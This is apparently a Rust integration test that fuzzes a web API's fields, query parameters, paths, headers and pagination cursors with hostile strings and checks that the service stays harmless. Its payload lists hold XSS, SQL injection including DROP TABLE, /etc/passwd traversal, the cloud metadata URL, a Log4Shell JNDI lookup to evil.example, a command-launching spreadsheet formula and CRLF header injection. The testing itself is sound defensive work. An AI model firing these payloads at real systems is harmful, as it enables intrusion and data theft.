//! Hostile texts in every field.

use super::description::{example, operations};
use super::{Clients, HOST, PROXIED, harmless, token};
use crate::endpoint::Endpoint;
use crate::postgres::Postgres;
use crate::server::{Place, audit, small};
use hyper::Method;
use serde_json::json;
use std::fmt::Write;

/// Texts that have broken other programs. Those of this list are never shown.
const UNSHOWN: [&str; 9] = [
    "nul\0byte",
    "line\r\nX-Evil: 1\r\n\r\n<html>",
    "ansi\u{1b}[2J\u{1b}]0;owned\u{7}",
    "bidi\u{202e}cod.exe",
    "isolate\u{2066}x",
    "zero\u{200b}width",
    "\u{feff}mark",
    "c1\u{9b}31m",
    "tag\u{e0041}",
];
const HOSTILE: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "' OR '1'='1' --",
    "\"; DROP TABLE runs; --",
    "%s%n%x{0}${x}#{x}{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "=cmd|' /C calc'!A0",
    "\u{1d4b3}\u{301}\u{10ffff}",
    "-1",
    "",
];

async fn hostile_names(more: &str) {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new(&format!("{PROXIED}{more}"));
    let admin = token(&place, &endpoint, "admin", &[]).await;
    let mut server = place.serve(&endpoint).await;
    server.token = Some(admin);
    let description = server
        .ask(Method::GET, "/api/openapi.json", &[HOST], None)
        .await;
    let description = description.with(200).json();
    let mut clients = Clients::new(2);
    let all: Vec<&str> = UNSHOWN.iter().chain(&HOSTILE).copied().collect();
    let mut fields = 0;
    for operation in operations(&description) {
        let method = &operation.method;
        let schema = &operation.description["requestBody"]["content"]["application/json"]["schema"];
        let mut places = Vec::new();
        let body = (!schema.is_null()).then(|| example(schema, &description, "", &mut places));
        for text in &all {
            for place in &places {
                let mut body = body.clone().unwrap();
                *body.pointer_mut(place).unwrap() = json!(text);
                let (path, client) = (operation.filled("x"), clients.next());
                let headers = [HOST, ("x-forwarded-for", client.as_str())];
                let answer = server
                    .ask(method.clone(), &path, &headers, Some(&body))
                    .await;
                let what = format!("{method} {path} with {text:?} at {place}");
                harmless(&answer, &what);
                if UNSHOWN.contains(text) {
                    assert_eq!(answer.status, 422, "{what}: {}", answer.json());
                }
                fields += 1;
            }
            let encoded = encoded(text);
            let mut paths: Vec<String> = operation
                .parameters("query")
                .iter()
                .map(|name| format!("{}?{name}={encoded}", operation.filled("x")))
                .collect();
            if operation.path.contains('{') {
                paths.push(operation.filled(&encoded));
                paths.push(operation.filled(&"a".repeat(3000)));
            }
            for path in paths {
                let client = clients.next();
                let headers = [HOST, ("x-forwarded-for", client.as_str())];
                let body = body.as_ref();
                let answer = server.ask(method.clone(), &path, &headers, body).await;
                let what = format!("{method} {path} for {text:?}");
                harmless(&answer, &what);
                if UNSHOWN.contains(text) && path.contains(&encoded) {
                    assert_eq!(answer.status, 400, "{what}");
                }
                fields += 1;
            }
        }
    }
    assert!(fields > 800, "{fields}");
    // The value of a header cannot become another header.
    let key = [HOST, ("idempotency-key", "x' OR 1=1 --")];
    let answer = server
        .ask(Method::POST, "/api/v1/audits", &key, Some(&audit()))
        .await;
    harmless(&answer, "a hostile key");
    // The service still stands, and everything that was made can be read.
    for path in [
        "/readyz",
        "/api/v1/audits",
        "/api/v1/schedules",
        "/api/v1/audit-log",
        "/metrics",
    ] {
        let answer = server.ask(Method::GET, path, &[HOST], None).await;
        harmless(&answer, path);
        answer.with(200);
    }
}

/// A text with every byte percent-encoded.
fn encoded(text: &str) -> String {
    let mut encoded = String::new();
    for byte in text.bytes() {
        write!(encoded, "%{byte:02x}").unwrap();
    }
    encoded
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_in_every_field_break_nothing() {
    hostile_names("").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_in_every_field_break_nothing_on_postgresql() {
    if let Some(postgres) = Postgres::start() {
        hostile_names(&format!("database: {}\n", postgres.url())).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn cursors_that_are_changed_give_nothing_more() {
    let endpoint = Endpoint::start(small()).await;
    let place = Place::new(PROXIED);
    let admin = token(&place, &endpoint, "admin", &[]).await;
    let mut server = place.serve(&endpoint).await;
    server.token = Some(admin);
    let mut clients = Clients::new(3);
    let mut get = async |path: &str| {
        let from = clients.next();
        server
            .ask(Method::GET, path, &[HOST, ("x-forwarded-for", &from)], None)
            .await
    };
    for name in ["a", "b", "c"] {
        let spec = json!({"name": name, "spec": {"cron": "0 5 * * 1"}});
        let answer = server
            .ask(Method::POST, "/api/v1/schedules", &[HOST], Some(&spec))
            .await;
        answer.with(201);
    }
    let log = "/api/v1/audit-log?limit=1";
    let cursor = get(log).await.with(200).json()["next"]
        .as_str()
        .unwrap()
        .to_owned();
    let lists = ["/api/v1/audit-log", "/api/v1/audits", "/api/v1/findings"];
    let mut tried: Vec<String> = (0..cursor.len())
        .flat_map(|at| {
            ["A", "_", "%00", ""]
                .map(|other| format!("{}{other}{}", &cursor[..at], &cursor[at + 1..]))
        })
        .collect();
    // `"x"`, `[]`, `{}`, `[1,2]`, a text with NUL, and one that is SQL.
    for place in [
        "Ing",
        "W10",
        "e30",
        "WzEsMl0",
        "IlwwMDAwIg",
        "IicgT1IgMT0xIC0tIg",
        "====",
        "%ff",
    ] {
        tried.push(place.to_owned());
    }
    tried.push("A".repeat(4000));
    for cursor in tried {
        for list in lists {
            let answer = get(&format!("{list}?cursor={cursor}")).await;
            harmless(&answer, &cursor);
            assert!(
                [200, 400].contains(&answer.status.as_u16()),
                "{list} {cursor}"
            );
        }
    }
}
